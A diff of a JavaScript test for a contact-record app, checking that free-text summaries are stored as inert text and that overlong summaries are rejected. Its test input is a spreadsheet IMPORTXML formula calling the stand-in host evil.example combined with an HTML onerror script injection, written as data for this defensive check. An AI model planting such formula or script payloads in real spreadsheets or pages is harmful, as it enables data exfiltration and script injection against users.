@@ -192,10 +192,10 @@ describe('bad input', () => {
   it('free text of a contact is a cell of text, whatever it looks like', async () => {
     const entry = { memberKey: 'D-002/GH', channel: '電話', direction: '受信', entryId: 'bundle-0001' };
     const summary = '=IMPORTXML("http://evil.example","//a")<img src=x onerror=alert(1)>';
-    expect(await call('recordContact', { ...entry, summary })).toMatchObject({ ok: true });
-    expect(
-      await call('recordContact', { ...entry, entryId: 'bundle-0002', summary: '長'.repeat(100_000) }),
-    ).toMatchObject({ ok: false });
+    expect(await call('recordContact', { ...entry, summary })).toMatchObject({ contacts: [{ summary }] });
+    await expect(
+      call('recordContact', { ...entry, entryId: 'bundle-0002', summary: '長'.repeat(100_000) }),
+    ).rejects.toThrow('2000文字以内');
     expect(rows('対応履歴')).toMatchObject([{ 会員番号: 'D-002', 内容: summary }]);
     expect(await call('openMember', { memberKey: 'D-002/GH' })).toMatchObject({ contacts: [{ summary }] });
   });
